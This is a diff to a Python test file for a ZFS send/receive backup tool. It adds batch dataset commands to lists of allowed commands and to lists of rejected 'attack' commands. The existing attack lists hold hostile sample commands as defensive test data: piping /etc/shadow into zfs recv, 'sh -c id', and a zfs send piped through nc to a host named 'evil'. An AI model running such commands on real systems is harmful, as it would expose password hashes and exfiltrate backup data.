@@ -37,6 +37,7 @@ def receive_side_commands(root: str, name: str) -> list[list[Argv]]:
     recvs = [zfs_argv.receive_argv(name, filesystem=fs, readonly=True) for fs in (True, False)]
     single = [
         zfs_argv.remote_dataset_argv(name),
+        zfs_argv.backups_argv([name, f"{root}/other one"]),  # a batch's backups
         zfs_argv.remote_tree_argv(root),
         zfs_argv.datasets_argv([root, name]),
         # whether the tree's parent exists, by name only (targets/pool/parents.py)
@@ -71,6 +72,7 @@ def send_side_commands(root: str, name: str) -> list[list[Argv]]:
         zfs_argv.source_get_argv([root, name]),
         zfs_argv.names_argv([root]),
         zfs_argv.local_dataset_argv(name),
+        zfs_argv.local_datasets_argv([name, root]),  # a batch's sources
         zfs_argv.prune_list_argv(root),
         zfs_argv.snapshot_argv([root, name], "zmake-20261129-0100"),
         zfs_argv.bookmark_argv(snap, mark),
@@ -236,6 +238,7 @@ ATTACKS_ON_THE_BACKUP = [
     "cat /etc/shadow | zfs recv -u -s -o canmount=noauto -o readonly=on 'backup/lap top:1/a'",
     "",
     "zfs",
+    shlex.join(zfs_argv.backups_argv(["backup/lap top:1/a", "backup/other"])),  # a batch
 ]
 
 
@@ -260,6 +263,7 @@ ATTACKS_ON_THE_SOURCE = [
     "zfs bookmark " + shlex.quote(SOURCE + "@zmake-1") + " " + shlex.quote(SOURCE + "#evil"),
     "sh -c id",
     "zfs send -L -c " + shlex.quote(SOURCE + "@zmake-1") + " | nc evil 80",
+    shlex.join(zfs_argv.local_datasets_argv([SOURCE, "tank/other"])),  # a batch
 ]
 
 
